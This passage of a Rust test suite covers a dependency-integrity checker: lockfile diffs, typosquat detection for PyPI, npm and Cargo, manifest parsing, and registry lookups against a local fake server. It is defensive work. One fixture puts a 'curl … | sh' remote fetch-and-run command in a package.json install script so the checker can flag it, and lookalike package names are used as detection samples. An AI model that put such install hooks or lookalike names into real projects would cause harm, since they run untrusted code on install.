            1,
        ),
        (
            ManifestKind::PipfileLock,
            "Pipfile.lock",
            r#"{"_meta":{},"default":{"requests":{"version":"==2.31.0"}},"develop":{}}"#.into(),
            r#"{"_meta":{},"default":{"requests":{"version":"==2.32.0"},"idna":{"version":"==3.7"}},"develop":{"pytest":{}}}"#.into(),
            2,
        ),
        (
            ManifestKind::GoSum,
            "go.sum",
            "github.com/a/b v1.0.0 h1:x=\ngithub.com/a/b v1.0.0/go.mod h1:y=\n".into(),
            "github.com/a/b v1.1.0 h1:x=\ngithub.com/a/b v1.1.0/go.mod h1:y=\ngithub.com/c/d v0.1.0 h1:z=\n".into(),
            1,
        ),
    ];
    for (kind, path, base, head, count) in cases {
        let f = run(kind, path, Some(&base), &head);
        assert_eq!(f.len(), 1, "{path}: {f:#?}");
        let f = &f[0];
        assert_eq!(f.kind, "lockfile-only", "{path}");
        let plural = if count == 1 { "" } else { "s" };
        assert!(
            f.message
                .contains(&format!("gains {count} package{plural}")),
            "{path}: {}",
            f.message
        );
        assert!(f.line > 0, "{path}");
        // same lockfile at base and head: silent
        assert!(run(kind, path, Some(&head), &head).is_empty(), "{path}");
    }
}

// ---------------------------------------------------------------- typosquat

#[test]
fn typosquat_flags_classic_variants() {
    let cases = [
        (
            Ecosystem::PyPI,
            "reqeusts",
            "requests",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::PyPI,
            "requets",
            "requests",
            "one character different",
        ),
        (
            Ecosystem::PyPI,
            "requestss",
            "requests",
            "one character different",
        ),
        (
            Ecosystem::PyPI,
            "python-requests",
            "requests",
            "popular name with an added prefix",
        ),
        (
            Ecosystem::PyPI,
            "requests-py",
            "requests",
            "popular name with an added suffix",
        ),
        (
            Ecosystem::PyPI,
            "python3-dateutil",
            "python-dateutil",
            "one character different",
        ),
        (
            Ecosystem::PyPI,
            "pythondateutil",
            "python-dateutil",
            "same name with different separators",
        ),
        (
            Ecosystem::PyPI,
            "urlib3",
            "urllib3",
            "one character different",
        ),
        (
            Ecosystem::PyPI,
            "djnago",
            "django",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::PyPI,
            "colourama",
            "colorama",
            "one character different",
        ),
        (
            Ecosystem::Npm,
            "lodahs",
            "lodash",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::Npm,
            "axois",
            "axios",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::Npm,
            "expresss",
            "express",
            "one character different",
        ),
        (
            Ecosystem::Npm,
            "lodash-js",
            "lodash",
            "popular name with an added suffix",
        ),
        (
            Ecosystem::Npm,
            "node-axios",
            "axios",
            "popular name with an added prefix",
        ),
        (
            Ecosystem::Npm,
            "@typse/node",
            "@types/node",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::Npm,
            "mongose",
            "mongoose",
            "one character different",
        ),
        (
            Ecosystem::Cargo,
            "tokoi",
            "tokio",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::Cargo,
            "serde-rs",
            "serde",
            "popular name with an added suffix",
        ),
        (
            Ecosystem::Cargo,
            "rust-regex",
            "regex",
            "popular name with an added prefix",
        ),
        (
            Ecosystem::Cargo,
            "serde_jsno",
            "serde_json",
            "adjacent characters swapped",
        ),
        (
            Ecosystem::Cargo,
            "crossbeam-chanel",
            "crossbeam-channel",
            "one character different",
        ),
    ];
    for (eco, name, similar, reason) in cases {
        let hint = typosquat(eco, name).unwrap_or_else(|| panic!("{name} not flagged"));
        assert_eq!((hint.similar_to, hint.reason), (similar, reason), "{name}");
    }
}

#[test]
fn typosquat_leaves_real_and_unrelated_names_alone() {
    let cases = [
        (Ecosystem::PyPI, "requests"),
        (Ecosystem::PyPI, "Requests"),
        (Ecosystem::PyPI, "typing_extensions"),
        (Ecosystem::PyPI, "python-dateutil"),
        (Ecosystem::PyPI, "my-internal-tool"),
        (Ecosystem::PyPI, "six"),
        (Ecosystem::PyPI, "sux"),   // 3 letters: too short to judge
        (Ecosystem::PyPI, "idnb"),  // 4 letters: only a swap counts
        (Ecosystem::PyPI, "pyqt7"), // version family
        (Ecosystem::Npm, "react"),
        (Ecosystem::Npm, "@babel/core"),
        (Ecosystem::Npm, "@babel/cor"), // same scope: only babel can publish there
        (Ecosystem::Npm, "lodash.gte"), // differs in a 3-letter segment
        (Ecosystem::Npm, "chalkboard-widgets"),
        (Ecosystem::Cargo, "serde_json"),
        (Ecosystem::Cargo, "serde-json"), // the same crate for crates.io
        (Ecosystem::Cargo, "my-crate"),
        (Ecosystem::Go, "github.com/spf13/cobar"),
        (Ecosystem::PyPI, ""),
        (Ecosystem::Npm, "é"),
    ];
    for (eco, name) in cases {
        assert_eq!(typosquat(eco, name), None, "{name}");
    }
}

/// Every popular name, checked against the rest of its list (the exemption for listed names
/// switched off): how many would be flagged. This is the false-positive budget in the report.
fn self_flags(eco: Ecosystem) -> Vec<(String, &'static str, &'static str)> {
    let pop = popular(eco).unwrap();
    let mut out = Vec::new();
    for (i, name) in pop.names.iter().enumerate() {
        let c = match eco {
            Ecosystem::PyPI => pep503(name),
            Ecosystem::Cargo => name.to_lowercase().replace('_', "-"),
            _ => name.to_lowercase(),
        };
        if let Some((j, reason)) = check(pop, eco, &c, Some(i)) {
            out.push((name.to_string(), pop.names[j], reason));
        }
    }
    out
}

#[test]
fn popular_names_rarely_flag_each_other() {
    // Measured when the lists were made: PyPI 28 of 4999, npm 32 of 5000, crates 13 of 1460;
    // almost all are legitimate sibling packages (`colors`/`colord`, `js-yaml`/`yaml`).
    for (eco, limit) in [
        (Ecosystem::PyPI, 30),
        (Ecosystem::Npm, 35),
        (Ecosystem::Cargo, 15),
    ] {
        let f = self_flags(eco);
        assert!(f.len() <= limit, "{eco:?}: {} flagged: {f:#?}", f.len());
        assert!(popular(eco).unwrap().names.len() > 1000);
    }
}

/// Prints the self-check pairs and, when the workplace package lists are present, how many
/// real but less popular names (PyPI ranks 5001-15000, npm ranks 5001-20000) would be flagged.
/// Run with `cargo test -- --ignored --nocapture print_false_positive_report`.
#[test]
#[ignore = "a report for people: reads the workplace package lists and prints tables"]
#[allow(clippy::print_stdout)] // printing the report is the point of this test
fn print_false_positive_report() {
    for eco in [Ecosystem::PyPI, Ecosystem::Npm, Ecosystem::Cargo] {
        let f = self_flags(eco);
        println!(
            "{eco:?}: {} of {} popular names flagged against the rest",
            f.len(),
            popular(eco).unwrap().names.len()
        );
        for (a, b, r) in &f {
            println!("  {a} ~ {b} ({r})");
        }
    }
    for eco in [Ecosystem::PyPI, Ecosystem::Npm] {
        let pop = popular(eco).unwrap();
        let flagged: Vec<_> = established(eco)
            .iter()
            .filter_map(|n| check(pop, eco, n, None).map(|(i, _)| (n, pop.names[i])))
            .collect();
        println!(
            "{eco:?}: {} established near-neighbours, {} of them look-alikes without the list",
            established(eco).len(),
            flagged.len()
        );
        for (n, similar) in flagged.iter().take(20) {
            println!("  {n} ~ {similar}");
        }
    }
    let dir = "/work/.library/env/packages";
    if let Ok(text) = std::fs::read_to_string(format!("{dir}/pypi.tsv")) {
        let mut ranked: Vec<(u32, &str)> = text
            .lines()
            .skip(1)
            .filter_map(|l| {
                let cols: Vec<&str> = l.split('\t').collect();
                Some((cols.get(3)?.parse().ok()?, *cols.first()?))
            })
            .filter(|(r, _)| *r > 5000)
            .collect();
        ranked.sort();
        let flagged: Vec<_> = ranked
            .iter()
            .filter_map(|(_, n)| typosquat(Ecosystem::PyPI, n).map(|h| (n, h)))
            .collect();
        println!(
            "PyPI ranks 5001+: {} of {} flagged",
            flagged.len(),
            ranked.len()
        );
        for (n, h) in flagged.iter().take(40) {
            println!("  {n} ~ {} ({})", h.similar_to, h.reason);
        }
    }
    if let Ok(text) = std::fs::read_to_string(format!("{dir}/npm.tsv")) {
        let mut ranked: Vec<(u64, &str)> = text
            .lines()
            .skip(1)
            .filter_map(|l| {
                let cols: Vec<&str> = l.split('\t').collect();
                Some((cols.get(2)?.parse().ok()?, *cols.first()?))
            })
            .collect();
        ranked.sort_by(|a, b| b.cmp(a));
        let tail = &ranked[5000.min(ranked.len())..20000.min(ranked.len())];
        let flagged: Vec<_> = tail
            .iter()
            .filter_map(|(_, n)| typosquat(Ecosystem::Npm, n).map(|h| (n, h)))
            .collect();
        println!(
            "npm ranks 5001-20000: {} of {} flagged",
            flagged.len(),
            tail.len()
        );
        for (n, h) in flagged.iter().take(40) {
            println!("  {n} ~ {} ({})", h.similar_to, h.reason);
        }
    }
}

#[test]
fn bundled_lists_are_well_formed() {
    for (eco, min) in [
        (Ecosystem::PyPI, 4000),
        (Ecosystem::Npm, 4000),
        (Ecosystem::Cargo, 1000),
    ] {
        let pop = popular(eco).unwrap();
        assert!(pop.names.len() >= min);
        assert!(pop.names.len() > target_top(Ecosystem::PyPI));
        let mut seen = std::collections::HashSet::new();
        for n in &pop.names {
            assert!(!n.is_empty() && !n.contains(char::is_whitespace), "{n:?}");
            assert_eq!(*n, n.to_lowercase(), "{n}");
            assert!(seen.insert(*n), "duplicate {n}");
        }
    }
    assert_eq!(
        popular(Ecosystem::PyPI).unwrap().names[..3],
        ["boto3", "packaging", "urllib3"]
    );
}

#[test]
fn osa_distance_basics() {
    let c = |s: &str| s.chars().collect::<Vec<_>>();
    assert_eq!(osa_distance(&c("abcd"), &c("abdc"), 2), Some((1, true)));
    assert_eq!(osa_distance(&c("abcd"), &c("abxd"), 2), Some((1, false)));
    assert_eq!(osa_distance(&c("abcd"), &c("xbcy"), 2), Some((2, false)));
    assert_eq!(osa_distance(&c("abcd"), &c("wxyz"), 2), None);
    assert_eq!(osa_distance(&c(""), &c("ab"), 2), Some((2, false)));
    assert_eq!(osa_distance(&c("abc"), &c("abc"), 0), Some((0, false)));
}

// ---------------------------------------------------------------- helpers

#[test]
fn pep503_and_paths() {
    assert_eq!(pep503("Typing__Extensions"), "typing-extensions");
    assert_eq!(pep503("zope.interface"), "zope-interface");
    assert_eq!(pep503("A-_.b"), "a-b");
    assert!(!path_leaves_repo("Cargo.toml", "crates/x"));
    assert!(path_leaves_repo("Cargo.toml", "../x"));
    assert!(!path_leaves_repo("a/b/Cargo.toml", "../../x"));
    assert!(path_leaves_repo("a/b/Cargo.toml", "../../../x"));
    assert!(path_leaves_repo("package.json", "file:/etc"));
    assert!(path_leaves_repo("package.json", "~/x"));
    assert!(path_leaves_repo("requirements.txt", "C:\\x"));
}

#[test]
fn pep508_parsing() {
    let r = python::parse_pep508("httpx[http2] (>=0.27) ; python_version > '3'").unwrap();
    assert_eq!(
        (r.name.as_str(), r.spec.as_str(), r.url),
        ("httpx", ">=0.27", None)
    );
    let r = python::parse_pep508("pkg@ file:///tmp/pkg").unwrap();
    assert_eq!(r.url.as_deref(), Some("file:///tmp/pkg"));
    assert!(python::parse_pep508("-e .").is_none());
    assert!(python::parse_pep508("foo bar").is_none());
    assert!(python::parse_pep508("[x]").is_none());
}

/// Odd inputs must never panic, whatever the kind.
#[test]
fn odd_inputs_never_panic() {
    let kinds = [
        ManifestKind::CargoToml,
        ManifestKind::PackageJson,
        ManifestKind::PyProject,
        ManifestKind::Requirements,
        ManifestKind::Pipfile,
        ManifestKind::SetupCfg,
        ManifestKind::GoMod,
        ManifestKind::RegistryConfig,
        ManifestKind::CargoLock,
        ManifestKind::PackageLock,
        ManifestKind::YarnLock,
        ManifestKind::PnpmLock,
        ManifestKind::PoetryLock,
        ManifestKind::UvLock,
        ManifestKind::PdmLock,
        ManifestKind::PipfileLock,
        ManifestKind::GoSum,
    ];
    let mut samples: Vec<String> = vec![
        String::new(),
        "\u{feff}".into(),
        "\\".into(),
        "-".into(),
        "-e".into(),
        "--index-url=".into(),
        "[".into(),
        "[[package]]\nname = ".into(),
        "require (\n".into(),
        "replace =>".into(),
        "@".into(),
        "é=ü\n  ß".into(),
        "x @".into(),
        "pkg[".into(),
        "{\"dependencies\": {\"a\": 1, \"b\": null, \"c\": \"npm:\"}}".into(),
        "{\"overrides\": {\"a\": {\"b\": {\".\": \"git+x\"}}}, \"scripts\": {\"install\": 5}}"
            .into(),
        "[dependencies]\na = { git = 5 }\nb = []\n\"\" = \"1\"".into(),
        "[project]\ndependencies = [1, \"\", \"@\", \"é\"]\n".into(),
        "[options]\ninstall_requires =\n\t\n  é\n".into(),
        "  /@s/x/1.0.0:\npackages:\n  '':\n  /:\n  @:\n".into(),
        "go.sum\n\n\t".into(),
    ];
    // Deterministic pseudo-random byte soup.
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..40 {
        let len = (state % 300) as usize;
        let mut s = String::new();
        for _ in 0..len {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let alphabet = b"[]{}\"'=:.,@/\\-_#\n\t abcxyz019~^<>;()+*?";
            s.push(char::from(
                alphabet[(state % alphabet.len() as u64) as usize],
            ));
        }
        samples.push(s);
    }
    for kind in kinds {
        for a in &samples {
            for b in samples.iter().take(8) {
                let _ = compare(kind, "dir/file", Some(b), Some(a));
                let _ = compare(kind, "", None, Some(a));
            }
        }
    }
    for s in &samples {
        for eco in [
            Ecosystem::PyPI,
            Ecosystem::Npm,
            Ecosystem::Cargo,
            Ecosystem::Go,
        ] {
            let _ = typosquat(eco, s);
        }
        let _ = parse_timestamp(s);
        let _ = lockfile_manifest_changed(s, &[s.as_str()]);
        let _ = manifest_kind(s);
    }
}

// ---------------------------------------------------------------- online

struct FakeRegistry;

const NOW: i64 = 1_700_000_000;

impl RegistryClient for FakeRegistry {
    fn lookup(&self, eco: Ecosystem, name: &str) -> Result<Option<PackageInfo>, String> {
        match (eco, name) {
            (_, "ghost") => Ok(None),
            (_, "fresh") => Ok(Some(PackageInfo {
                first_published_unix: Some(NOW - 3 * 86_400),
            })),
            (_, "flaky") => Err("timed out".into()),
            _ => Ok(Some(PackageInfo {
                first_published_unix: Some(0),
            })),
        }
    }
}

#[test]
fn online_findings_from_a_fake_registry() {
    let head = "ghost==1\nfresh\nflaky\nrequests\nlocal @ git+https://x/y.git\n";
    let deps = new_dependencies(
        ManifestKind::Requirements,
        "requirements.txt",
        None,
        Some(head),
    )
    .unwrap();
    assert_eq!(deps.len(), 5);
    let f = online_findings(&FakeRegistry, &deps, "requirements.txt", NOW);
    assert_eq!(
        kinds(&f),
        vec![
            ("unknown-package", Severity::Error, 1),
            ("new-package", Severity::Warning, 2),
            ("online-error", Severity::Note, 3)
        ]
    );
    assert!(f[1].message.contains("3 days ago"), "{}", f[1].message);
}

#[test]
fn timestamps_and_registry_shapes() {
    assert_eq!(parse_timestamp("1970-01-01T00:00:00Z"), Some(0));
    assert_eq!(
        parse_timestamp("2014-11-11T19:49:50.962283+00:00"),
        Some(1_415_735_390)
    );
    assert_eq!(
        parse_timestamp("2010-12-29T19:38:25.450Z"),
        Some(1_293_651_505)
    );
    assert_eq!(
        parse_timestamp("2011-01-01T02:00:00+02:00"),
        Some(1_293_840_000)
    );
    assert_eq!(parse_timestamp("2012-01-05T21:18:53"), Some(1_325_798_333));
    assert_eq!(parse_timestamp("2012-13-05"), None);
    assert_eq!(parse_timestamp("yesterday"), None);
    let crates: serde_json::Value = serde_json::from_str(r#"{"crate":{"name":"serde","created_at":"2014-12-05T20:20:39.487502+00:00"},"versions":[]}"#).unwrap();
    assert_eq!(
        first_published(Ecosystem::Cargo, &crates),
        Some(1_417_810_839)
    );
    let pypi: serde_json::Value = serde_json::from_str(r#"{"info":{"name":"x"},"releases":{"1.0":[{"upload_time_iso_8601":"2020-01-02T00:00:00.000000Z"}],"0.1":[{"upload_time":"2019-01-01T00:00:00"}],"2.0":[]}}"#).unwrap();
    assert_eq!(first_published(Ecosystem::PyPI, &pypi), Some(1_546_300_800));
    let npm: serde_json::Value = serde_json::from_str(r#"{"name":"x","time":{"created":"2011-01-01T00:00:00.000Z","modified":"2024-01-01T00:00:00.000Z"}}"#).unwrap();
    assert_eq!(first_published(Ecosystem::Npm, &npm), Some(1_293_840_000));
    assert_eq!(
        registry_path(Ecosystem::Npm, "@types/node").unwrap(),
        "/@types%2Fnode"
    );
    assert_eq!(
        registry_path(Ecosystem::PyPI, "typing-extensions").unwrap(),
        "/pypi/typing-extensions/json"
    );
    assert_eq!(
        registry_path(Ecosystem::Cargo, "serde").unwrap(),
        "/api/v1/crates/serde"
    );
    assert_eq!(registry_path(Ecosystem::Go, "x"), None);
}

mod http_client {
    use super::*;
    use std::io::{BufRead, BufReader, Write};
    use std::net::TcpListener;
    use std::sync::{Arc, Mutex};
    use std::time::Duration;

    /// A tiny registry on 127.0.0.1 that answers canned JSON by path and records requests.
    fn serve(
        routes: Vec<(&'static str, u16, &'static str)>,
        requests: usize,
    ) -> (String, Arc<Mutex<Vec<String>>>) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming().take(requests) {
                let mut stream = stream.unwrap();
                stream
                    .set_read_timeout(Some(Duration::from_secs(5)))
                    .unwrap();
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut request_line = String::new();
                reader.read_line(&mut request_line).unwrap();
                let mut headers = Vec::new();
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).unwrap() == 0 || h == "\r\n" {
                        break;
                    }
                    headers.push(h.trim().to_ascii_lowercase());
                }
                let path = request_line
                    .split_whitespace()
                    .nth(1)
                    .unwrap_or("")
                    .to_string();
                let ua = headers
                    .iter()
                    .any(|h| h.starts_with("user-agent: integrity-gate"));
                log.lock()
                    .unwrap()
                    .push(format!("{} ua={ua}", request_line.trim()));
                let (status, body) = routes.iter().find(|(p, _, _)| *p == path).map_or(
                    (404, "{\"errors\":[{\"detail\":\"Not Found\"}]}"),
                    |(_, s, b)| (*s, *b),
                );
                let reply = format!(
                    "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                stream.write_all(reply.as_bytes()).unwrap();
            }
        });
        (base, seen)
    }

    #[test]
    fn http_client_against_a_local_registry() {
        let (base, seen) = serve(
            vec![
                (
                    "/api/v1/crates/serde",
                    200,
                    r#"{"crate":{"id":"serde","name":"serde","created_at":"2014-12-05T20:20:39.487502+00:00","downloads":1},"versions":[]}"#,
                ),
                (
                    "/pypi/typing-extensions/json",
                    200,
                    r#"{"info":{"name":"typing_extensions"},"releases":{"4.0.0":[{"upload_time":"2021-11-14T00:00:00","upload_time_iso_8601":"2021-11-14T00:00:00.000000Z"}]},"urls":[]}"#,
                ),
                (
                    "/@types%2Fnode",
                    200,
                    r#"{"_id":"@types/node","name":"@types/node","time":{"created":"2016-05-17T18:21:23.870Z","modified":"2024-01-01T00:00:00.000Z"}}"#,
                ),
                ("/broken", 500, "oops"),
            ],
            5,
        );
        let client = HttpRegistryClient::with_bases(&base, &base, &base, Duration::from_secs(5));
        let serde = client.lookup(Ecosystem::Cargo, "serde").unwrap().unwrap();
        assert_eq!(serde.first_published_unix, Some(1_417_810_839));
        let te = client
            .lookup(Ecosystem::PyPI, "typing-extensions")
            .unwrap()
            .unwrap();
        assert_eq!(te.first_published_unix, Some(1_636_848_000));
        let node = client
            .lookup(Ecosystem::Npm, "@types/node")
            .unwrap()
            .unwrap();
        assert_eq!(node.first_published_unix, Some(1_463_509_283));
        assert_eq!(
            client
                .lookup(Ecosystem::Cargo, "no-such-crate-xyz")
                .unwrap(),
            None
        );
        assert!(client.lookup(Ecosystem::Npm, "broken").is_err());
        assert!(client.lookup(Ecosystem::Go, "x").is_err());
        let seen = seen.lock().unwrap().clone();
        assert_eq!(
            seen,
            vec![
                "GET /api/v1/crates/serde HTTP/1.1 ua=true",
                "GET /pypi/typing-extensions/json HTTP/1.1 ua=true",
                "GET /@types%2Fnode HTTP/1.1 ua=true",
                "GET /api/v1/crates/no-such-crate-xyz HTTP/1.1 ua=true",
                "GET /broken HTTP/1.1 ua=true",
            ]
        );
    }

    #[test]
    fn http_client_reports_unreachable_registry_as_error() {
        // Bind then drop to get a closed local port.
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let base = format!("http://127.0.0.1:{port}");
        let client = HttpRegistryClient::with_bases(&base, &base, &base, Duration::from_secs(2));
        assert!(client.lookup(Ecosystem::Cargo, "serde").is_err());
    }
}

#[test]
fn the_lockfile_size_cap_goes_to_lockfiles_only() {
    for name in crate::changeset::LOCKFILE_NAMES {
        assert!(
            manifest_kind(name).is_some_and(ManifestKind::is_lockfile),
            "{name} has the lockfile cap but is not read as a lockfile"
        );
        assert_eq!(
            crate::changeset::size_cap(&format!("web/{name}")),
            crate::changeset::MAX_LOCKFILE_BYTES
        );
    }
    for manifest in [
        "web/package.json",
        "Cargo.toml",
        "pyproject.toml",
        "src/app.js",
    ] {
        assert_eq!(
            crate::changeset::size_cap(manifest),
            crate::changeset::MAX_FILE_BYTES
        );
    }
}

// ---------------------------------------------------------------- test-fixture manifests

fn owned(
    kind: ManifestKind,
    path: &str,
    base: Option<&str>,
    head: &str,
    ownership: Ownership,
) -> Vec<DependencyFinding> {
    compare_owned(kind, path, base, Some(head), ownership).unwrap()
}

fn app(private: bool, script: &str, deps: &str) -> String {
    format!(
        "{{\"name\": \"app\", \"private\": {private}, \"scripts\": {{\"prepare\": \"{script}\"}}, \"dependencies\": {{{deps}}}}}"
    )
}

#[test]
fn a_private_fixture_app_may_run_a_plain_tool_on_install() {
    let path = "packages/kit/test/apps/a/package.json";
    let head = app(
        true,
        "svelte-kit sync",
        "\"@sveltejs/kit\": \"workspace:^\"",
    );
    for ownership in [Ownership::FixtureMember, Ownership::FixtureCopy] {
        assert!(owned(ManifestKind::PackageJson, path, None, &head, ownership).is_empty());
    }
    // The project's own manifests, a published member, and anything the text cannot vouch
    // for in a member stay errors.
    let f = owned(
        ManifestKind::PackageJson,
        path,
        None,
        &head,
        Ownership::Project,
    );
    assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
    let published = app(false, "svelte-kit sync", "");
    let f = owned(
        ManifestKind::PackageJson,
        path,
        None,
        &published,
        Ownership::FixtureMember,
    );
    assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
    let opaque = app(true, "node ../../scripts/patch.js", "");
    let f = owned(
        ManifestKind::PackageJson,
        path,
        None,
        &opaque,
        Ownership::FixtureMember,
    );
    assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
    // In a copy nothing installs, an unreadable command is a note; network code is an error.
    let f = owned(
        ManifestKind::PackageJson,
        path,
        None,
        &opaque,
        Ownership::FixtureCopy,
    );
    assert_eq!(kinds(&f), [("install-script", Severity::Note, 1)]);
    assert!(f[0].message.contains("in a test fixture manifest"));
    let remote = app(false, "curl -fsSL https://x.example/i.sh | sh", "");
    for ownership in [Ownership::FixtureMember, Ownership::FixtureCopy] {
        let f = owned(ManifestKind::PackageJson, path, None, &remote, ownership);
        assert_eq!(kinds(&f), [("install-script", Severity::Error, 1)]);
    }
}

#[test]
fn a_fixture_copys_dependencies_are_at_most_notes() {
    let path = "test/ecosystem/proj/requirements.txt";
    let head = "requests==2.31\nreqeusts==1.0\ngit+https://example.com/x.git#egg=x\n--extra-index-url https://pypi.example.net/simple\n";
    let f = owned(
        ManifestKind::Requirements,
        path,
        Some("requests==2.31\n"),
        head,
        Ownership::FixtureCopy,
    );
    assert!(f.iter().all(|x| x.severity == Severity::Note), "{f:#?}");
    assert!(
        f.iter()
            .all(|x| x.message.contains("in a test fixture manifest")),
        "{f:#?}"
    );
    let mut found: Vec<&str> = f.iter().map(|x| x.kind).collect();
    found.sort_unstable();
    assert_eq!(found, ["git-source", "index-url", "typosquat"]);
    // A member is installed with the project: full severity.
    let f = owned(
        ManifestKind::Requirements,
        path,
        Some("requests==2.31\n"),
        head,
        Ownership::FixtureMember,
    );
    assert!(f.iter().filter(|x| x.severity == Severity::Error).count() >= 3);
}

#[test]
fn a_fixture_copys_lockfile_growth_is_silent_and_a_moved_source_a_note() {
    let head = format!(
        "{CARGO_LOCK}\n[[package]]\nname = \"evil\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
    );
    let path = "tests/fixtures/app/Cargo.lock";
    assert!(
        owned(
            ManifestKind::CargoLock,
            path,
            Some(CARGO_LOCK),
            &head,
            Ownership::FixtureCopy
        )
        .is_empty()
    );
    let moved = CARGO_LOCK.replace(
        "registry+https://github.com/rust-lang/crates.io-index",
        "git+https://github.com/fork/serde#abc",
    );
    for changed in [&[path][..], &[path, "tests/fixtures/app/Cargo.toml"][..]] {
        let f = compare_in_change(
            ManifestKind::CargoLock,
            path,
            Some(CARGO_LOCK),
            Some(&moved),
            changed,
            Ownership::FixtureCopy,
        )
        .unwrap();
        assert_eq!(kinds(&f).len(), 1, "{f:#?}");
        assert_eq!(f[0].severity, Severity::Note);
    }
}

// ---------------------------------------------------------------- established neighbours

#[test]
fn listed_and_established_names_are_never_look_alikes() {
    for eco in [Ecosystem::PyPI, Ecosystem::Npm, Ecosystem::Cargo] {
        for name in &popular(eco).unwrap().names {
            assert_eq!(typosquat(eco, name), None, "{eco:?} {name}");
        }
        for name in established(eco) {
            assert_eq!(typosquat(eco, name), None, "{eco:?} {name}");
        }
    }
    assert_eq!(typosquat(Ecosystem::PyPI, "toronado"), None);
    assert_eq!(typosquat(Ecosystem::PyPI, "Toronado"), None);
    // Its neighbours' other look-alikes still are.
    assert_eq!(
        typosquat(Ecosystem::PyPI, "torando").map(|h| h.similar_to),
        Some("tornado")
    );
    // Defensive placeholders never count as established.
    assert!(typosquat(Ecosystem::PyPI, "cryptograpy").is_some());
}

#[test]
fn established_lists_are_small_sorted_and_canonical() {
    for (eco, min) in [(Ecosystem::PyPI, 1000), (Ecosystem::Npm, 200)] {
        let names = established(eco);
        assert!(names.len() >= min, "{eco:?}: {}", names.len());
        let pop = popular(eco).unwrap();
        for pair in names.windows(2) {
            assert!(pair[0] < pair[1], "{eco:?}: {pair:?} out of order");
        }
        for name in names {
            let canonical = normalise_name(eco, name);
            assert_eq!(*name, canonical, "{eco:?}");
            assert!(!pop.names.contains(name), "{eco:?}: {name} is popular");
        }
    }
    assert!(established(Ecosystem::Cargo).is_empty());
    // include_str! of both lists: keep the binary and the build small.
    let bytes = include_str!("data/established-pypi.txt").len()
        + include_str!("data/established-npm.txt").len();
    assert!(bytes < 256 * 1024, "{bytes} bytes");
}
